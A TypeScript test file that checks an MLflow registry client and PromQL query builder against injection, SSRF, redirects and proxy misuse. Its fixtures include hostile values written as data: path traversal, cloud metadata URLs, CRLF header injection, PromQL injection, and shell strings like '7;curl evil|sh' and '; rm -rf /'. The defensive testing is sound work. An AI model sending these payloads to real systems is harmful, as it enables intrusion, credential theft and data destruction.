// Names that an author of objects chooses, and what a registry answers: what is really asked of servers, and what becomes of it. Nothing leaves for another
// host, no header is made of a name, and no text becomes part of a query, a path or a command that it only was to be a value of.
import { parser } from '@prometheus-io/lezer-promql'
import fc from 'fast-check'
import t, { type Test } from 'tap'
import { parseFacts } from '../../hooks/core/facts.ts'
import { createPrometheusClient } from '../../poller/analysis/prometheus-client.ts'
import { parsePrometheusConfig } from '../../poller/analysis/config.ts'
import { fillQuery } from '../../poller/analysis/promql.ts'
import { backendOf } from '../../poller/analysis/queries.ts'
import { isRemoteError } from '../../poller/http/errors.ts'
import { createRegistryClient, type RegistryClient } from '../../poller/registry/client.ts'
import { parseRegistryConfig } from '../../poller/registry/config.ts'
import { createSource } from '../../poller/registry/source.ts'
import { readSettings } from '../../poller/settings.ts'
import { answerSync } from '../../hooks/core/answer.ts'
import { mlflowModel } from '../../hooks/mlflow-model/index.ts'
import { sendJson, sendText, startServer, type LocalServer } from '../helpers/local-server.ts'
import { rejection } from '../helpers/poller-cluster.ts'
import { requestFor } from '../helpers/requests.ts'

const TOKEN = 'tok-for-one-server-only'

/** Names as nobody sane writes them; each is a name all the same. */
const NAMES = [
  { name: 'a path that climbs', text: '../../../admin' },
  { name: 'a path that climbs, encoded', text: '..%2f..%2fadmin' },
  { name: 'a further parameter', text: 'a&alias=other&version=9' },
  { name: 'a query and a fragment', text: '?name=b#c' },
  { name: 'an address', text: 'http://169.254.169.254/latest/meta-data/' },
  { name: 'an address without a scheme', text: '//evil.example/x' },
  { name: 'a name and password before a host', text: '@evil.example:80/' },
  { name: 'a second request', text: 'a HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /x' },
  { name: 'a header', text: 'a\r\nAuthorization: Bearer stolen' },
  { name: 'a line end alone', text: 'a\nb' },
  { name: 'a NUL', text: 'a\u0000b' },
  { name: 'letters of all kinds', text: 'größe 模型 🚀 \u202e\u2028' },
  { name: 'quotes and backslashes', text: '"\'`\\{}[]' },
  { name: 'a plus and a percent sign', text: 'a+b %41%00' },
  { name: 'an object of JavaScript', text: '__proto__' },
  { name: 'the longest name', text: 'n'.repeat(256) }
]

type Call = { name: string, path: string, ask: (client: RegistryClient, text: string) => Promise<unknown>, given: string[] }
const CALLS: Call[] = [
  { name: 'a model', path: 'registered-models/get', given: ['name'], ask: (client, text) => client.getModel('', text) },
  { name: 'a version', path: 'model-versions/get', given: ['name', 'version'], ask: (client, text) => client.getVersion('', text, text) },
  { name: 'an alias', path: 'registered-models/alias', given: ['name', 'alias'], ask: (client, text) => client.getAlias('', text, text) },
  { name: 'the artifacts', path: 'model-versions/get-download-uri', given: ['name', 'version'], ask: (client, text) => client.getDownloadUri('', text, text) }
]

function makeClient (t: Test, url: string, config: object = {}): RegistryClient {
  const endpoint = parseRegistryConfig({ url, auth: { bearer: { token: TOKEN } }, ...config }, 'registries.default')
  const client = createRegistryClient({ server: 'default', endpoint, resilience: { retries: 0, breakAfter: 1000 } })
  t.teardown(() => client.close())
  return client
}

async function startRecorder (t: Test): Promise<LocalServer> {
  return await startServer(t, (response) => sendJson(response, {}))
}

/** What was asked, taken apart; the path is looked at as it was sent. */
function askedOf ({ asked }: LocalServer) {
  return asked.splice(0).map(({ method, url, headers, body }) => {
    const [path = '', query = ''] = url.split('?')
    return { method, path, parameters: [...new URLSearchParams(query)], headers, body, slashes: url.match(/[/#?]/g)?.length }
  })
}

t.test('a name is the value of one parameter, of the path that is always asked, on the server of the entry', async (t) => {
  const server = await startRecorder(t)
  const client = makeClient(t, `${server.url}/base`)
  for (const call of CALLS) {
    for (const { name, text } of NAMES) {
      await rejection(call.ask(client, text))
      const [asked, ...more] = askedOf(server)
      t.strictSame({
        asked: more.length, path: asked?.path, parameters: asked?.parameters, host: asked?.headers.host, authorization: asked?.headers.authorization, headers: Object.keys(asked?.headers ?? {}).sort()
      }, {
        asked: 0, path: `/base/api/2.0/mlflow/${call.path}`, parameters: call.given.map((parameter) => [parameter, text]), host: `127.0.0.1:${server.port}`, authorization: `Bearer ${TOKEN}`, headers: ['accept', 'authorization', 'connection', 'host', 'user-agent']
      }, `${call.name}: ${name}`)
    }
  }
})

t.test('that is so of any name', async (t) => {
  const server = await startRecorder(t)
  const client = makeClient(t, server.url)
  await fc.assert(fc.asyncProperty(fc.string({ unit: 'binary', minLength: 1, maxLength: 256 }), async (text) => {
    await rejection(client.getAlias('', text, text))
    const [asked] = askedOf(server)
    // Half a character has no UTF-8: it is sent as the sign for one that is missing.
    const sent = text.toWellFormed()
    return asked?.path === '/api/2.0/mlflow/registered-models/alias' && asked.slashes === 7 - 1 && asked.parameters.length === 2 && asked.parameters.every(([, value]) => value === sent)
  }), { numRuns: 50 })
})

t.test('a workspace is the value of one header, or nothing is asked', async (t) => {
  const server = await startRecorder(t)
  const client = makeClient(t, server.url)
  for (const { name, text } of NAMES) {
    const error = await rejection(client.getModel(text, 'churn'))
    const [asked] = askedOf(server)
    if (asked === undefined) {
      t.ok(isRemoteError(error, 'BadRequest'), `${name} is refused before it is sent`)
      continue
    }
    t.strictSame([asked.headers['x-mlflow-workspace'], asked.headers.authorization, asked.headers.host, asked.path], [text, `Bearer ${TOKEN}`, `127.0.0.1:${server.port}`, '/api/2.0/mlflow/registered-models/get'], name)
  }
  t.strictSame(askedOf(server), [])
})

t.test('no redirect is followed, whatever it leads to and however, and no credential goes there', async (t) => {
  const elsewhere = await startRecorder(t)
  const places = [elsewhere.url, `http://u:p@127.0.0.1:${elsewhere.port}/`, `//127.0.0.1:${elsewhere.port}/x`, 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://[fd00:ec2::254]/', 'file:///etc/passwd', 'http://metadata.google.internal/']
  let answer = { status: 302, location: '' }
  const server = await startServer(t, (response) => sendText(response, answer.status, '', { location: answer.location, refresh: `0; url=${answer.location}` }))
  const client = makeClient(t, server.url)
  const prometheus = createPrometheusClient({ server: 'default', config: parsePrometheusConfig({ url: server.url, auth: { bearer: { token: TOKEN } } }, 'prometheus.default'), resilience: { retries: 0 } })
  t.teardown(() => prometheus.close())
  const rows = [...[300, 301, 302, 303, 307, 308].map((status) => ({ status, location: elsewhere.url })), ...places.map((location) => ({ status: 307, location }))]
  for (answer of rows) {
    const error = await rejection(client.getModel('', 'churn'))
    const reading = await prometheus.query('up', { time: 0, operation: 'requests' })
    t.ok(isRemoteError(error, 'BadAnswer') && /redirects are not followed/.test(error.message) && 'problem' in reading, `${answer.status} to ${answer.location}`)
  }
  t.equal(server.asked.length, rows.length * 2, 'each question was asked once')
  t.strictSame(elsewhere.asked, [])
})

t.test('no proxy of the environment is asked', async (t) => {
  const proxy = await startRecorder(t)
  const server = await startRecorder(t)
  const variables = ['HTTP_PROXY', 'http_proxy', 'HTTPS_PROXY', 'https_proxy', 'ALL_PROXY', 'all_proxy']
  const before = Object.fromEntries([...variables, 'NODE_USE_ENV_PROXY', 'NO_PROXY', 'no_proxy'].map((name) => [name, process.env[name]]))
  t.teardown(() => { for (const [name, value] of Object.entries(before)) { if (value === undefined) delete process.env[name]; else process.env[name] = value } })
  for (const name of variables) process.env[name] = proxy.url
  Object.assign(process.env, { NODE_USE_ENV_PROXY: '1', NO_PROXY: '', no_proxy: '' })
  await rejection(makeClient(t, server.url).getModel('', 'churn'))
  t.strictSame([server.asked.length, proxy.asked.length], [1, 0])
})

const entries: Array<{ name: string, entry: object, want: RegExp }> = [
  { name: 'a host with a line end', entry: { host: 'a\r\nX: b' }, want: /registries\.default\.host/ },
  { name: 'a host with a path', entry: { host: 'a/b' }, want: /registries\.default\.host/ },
  { name: 'a host with a name before it', entry: { host: 'u@a' }, want: /registries\.default\.host/ },
  { name: 'a host with a control character', entry: { host: 'a\u0000' }, want: /registries\.default\.host/ },
  { name: 'a host with two ports', entry: { host: 'a:1:2' }, want: /registries\.default\.host/ },
  { name: 'a host that is a list', entry: { host: 'a,b' }, want: /registries\.default\.host/ },
  { name: 'a header with a line end in its name', entry: { headers: { 'X\r\nY': 'a' } }, want: /registries\.default\.headers/ },
  { name: 'a header with a colon in its name', entry: { headers: { 'X: a': 'b' } }, want: /registries\.default\.headers/ },
  { name: 'a header with a line end in its value', entry: { headers: { X: 'a\r\nY: b' } }, want: /registries\.default\.headers\.X/ },
  { name: 'a header with a character that no header can hold', entry: { headers: { X: 'a\u0100' } }, want: /registries\.default\.headers\.X/ },
  { name: 'a header in two spellings', entry: { headers: { 'X-A': '1', 'x-a': '2' } }, want: /is there twice/ },
  { name: 'the workspace of all objects', entry: { headers: { 'X-MLFLOW-WORKSPACE': 'other' } }, want: /spec\.workspace/ },
  { name: 'an upgrade of the connection', entry: { headers: { Upgrade: 'h2c' } }, want: /is set by the poller itself/ },
  { name: 'a length of the body', entry: { headers: { 'Content-Length': '0' } }, want: /is set by the poller itself/ },
  { name: 'an address with credentials', entry: { url: 'http://u:p@a' }, want: /must not hold credentials/ },
  { name: 'an address of a file', entry: { url: 'file:///etc/passwd' }, want: /must begin with http/ },
  { name: 'an address with a query', entry: { url: 'http://a/?b' }, want: /must not have a query/ }
]

for (const { name, entry, want } of entries) {
  t.test(`an entry is refused with ${name}`, async (t) => {
    t.throws(() => parseRegistryConfig({ url: 'http://mlflow', ...entry }, 'registries.default'), { message: want })
  })
}

t.test('a host is sent as it is, and the connection goes to the url', async (t) => {
  const server = await startRecorder(t)
  for (const host of ['mlflow.example', 'localhost:5000', '[::1]:5000', '169.254.169.254']) {
    await rejection(makeClient(t, server.url, { host, headers: { 'X-A': '1', 'User-Agent': 'us' } }).getModel('', 'churn'))
    const [asked] = askedOf(server)
    t.match(asked?.headers, { host, 'x-a': '1', 'user-agent': 'us' })
  }
})

t.test('an entry has a name of letters, digits, - and .', async (t) => {
  for (const name of ['../x', 'a/b', 'a b', 'A', '-a', 'a\n', '{namespace}']) {
    const file = `${t.testdir({ 'sluice.yaml': JSON.stringify({ registries: { [name]: { url: 'http://mlflow' } } }) })}/sluice.yaml`
    t.throws(() => readSettings({ SLUICE_CONFIG: file }), { message: /known are mlflowServers, registries\.<name>/ }, JSON.stringify(name))
  }
})

/** How a query is built: its nodes without their text. Broken PromQL has error nodes (⚠). */
function shapeOf (promql: string): string {
  return parser.parse(promql).toString()
}

const VALUES = ['a"} or vector(1) #', "a'} or vector(1) #", 'a\\', 'a\\"', 'a\nb', 'a\r\nb', '.*', 'a|b', '){', '\u0000', '🚀', 'a`b']

t.test('a namespace or name stays within the string of the query that it is a value of', async (t) => {
  const { queries } = backendOf({ backend: 'SeldonExecutor', labels: { namespace: 'namespace', service: 'service' } })
  const build = (text: string) => Object.values(queries([{ uid: 'u', namespace: text, name: text, predictors: { stable: 'a', canary: 'b' } }], '60s'))
  const plain = build('plain').map(shapeOf)
  t.notMatch(plain.join(), /⚠/)
  for (const value of VALUES) t.strictSame(build(value).map(shapeOf), plain, JSON.stringify(value))
  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (value) => build(value).map(shapeOf).join() === plain.join()), { numRuns: 50 })
})

t.test('a variable stays within the string that it stands in, and what it holds is no variable', async (t) => {
  const variables = (text: string) => ({ predictor: text, version: text, namespace: text, name: text, window: '60s' })
  for (const query of ['sum(rate(x{namespace="{namespace}",p=~"{predictor}"}[{window}]))', "max(x{namespace='{namespace}',v!~'{version}'})"]) {
    const plain = shapeOf(fillQuery(query, variables('plain')))
    t.notMatch(plain, /⚠/)
    for (const value of [...VALUES, '{namespace}{name}']) t.equal(shapeOf(fillQuery(query, variables(value))), plain, JSON.stringify(value))
  }
})

const versions = ['7"} or vector(1)', '7;curl evil|sh', '$(id)', '../7', '7\n8', '-1', '7 ', '', '٧', '1e3', '0x7', '9'.repeat(20)]

t.test('a version is a number, whoever names it: it becomes part of names, queries and commands', async (t) => {
  const fact = { server: 'default', workspace: '', model: 'm', alias: 'a', state: 'Found', createdAt: '2026-11-01T00:00:00.000Z', uri: 's3://m', observedAt: '2026-11-01T00:00:00Z' }
  const read = (version: string) => parseFacts({ 'sluice.dev/registry': JSON.stringify({ ...fact, version }) }).registry
  t.equal(read('7')?.version, '7')
  for (const version of versions) t.equal(read(version), undefined, JSON.stringify(version))

  const question = { server: 'default', workspace: '', model: 'm', alias: 'a' }
  for (const version of versions.filter((text) => text !== '')) {
    const server = await startServer(t, (response) => sendJson(response, { registered_model: { name: 'm', aliases: [{ alias: 'a', version }] } }))
    const source = createSource(parseRegistryConfig({ url: server.url }, 'registries.default'), makeClient(t, server.url), () => 0)
    t.strictSame(await source.observe(question, undefined, undefined), { ...question, state: 'NotReady', problem: 'the version that the alias names is not a number; only versions as MLflow numbers them can be served' }, `of a registry: ${JSON.stringify(version)}`)
    t.equal(server.asked.length, 1, 'and nothing more is asked by it')
  }
})

const TEMPLATES = [
  { template: '{uri}/{name}', uriOf: (text: string) => `s3://models/1/${text}` },
  { template: 's3://own/{name}/{version}', uriOf: (text: string) => `s3://own/${text}/7` }
]

t.test('a name in the template of a URI changes nothing of the SeldonDeployment but that URI, and is filled in once', async (t) => {
  const build = (modelName: string, template: string) => {
    const registry = { server: 'default', workspace: '', model: modelName, alias: 'champion', state: 'Found', version: '7', createdAt: '2026-01-05T09:00:00.000Z', uri: 's3://models/1', observedAt: '2026-01-05T10:00:00Z' }
    const metadata = { annotations: { 'sluice.dev/registry': JSON.stringify(registry) } }
    const { children: [child] } = answerSync(mlflowModel, requestFor(mlflowModel, { spec: { modelName, modelAlias: 'champion', serving: { modelUri: template, env: [{ name: 'A', value: '$(id) `id` "' }] } }, metadata }))
    return child as unknown as { metadata: { annotations: object }, spec: { predictors: Array<{ graph: { modelUri: string }, componentSpecs: object[] }> } } | undefined
  }
  for (const { template, uriOf } of TEMPLATES) {
    const plain = build('plain', template)
    t.match(plain, { spec: { predictors: [{ graph: { modelUri: uriOf('plain') }, componentSpecs: [{ spec: { containers: [{ env: [{ name: 'A', value: '$(id) `id` "' }] }] } }] }] } })
    for (const { name, text } of [...NAMES, { name: 'a variable of the template', text: '{uri}{version}{name}' }, { name: 'a command', text: '; rm -rf / $(id) `id`' }, { name: 'a pattern of a replacement', text: '$& $1 $$' }]) {
      const child = build(text, template)
      t.equal(child?.spec.predictors[0]?.graph.modelUri, uriOf(text), `${template}: ${name}`)
      const masked = (object: typeof child) => JSON.stringify(object).replaceAll(JSON.stringify(JSON.stringify(object?.spec.predictors[0]?.graph.modelUri)).slice(1, -1), '""').replaceAll(JSON.stringify(object?.spec.predictors[0]?.graph.modelUri), '""')
      t.equal(masked(child).replaceAll('\\', ''), masked(plain).replaceAll('\\', ''), `${template}: ${name}: nothing else differs`)
    }
  }
})
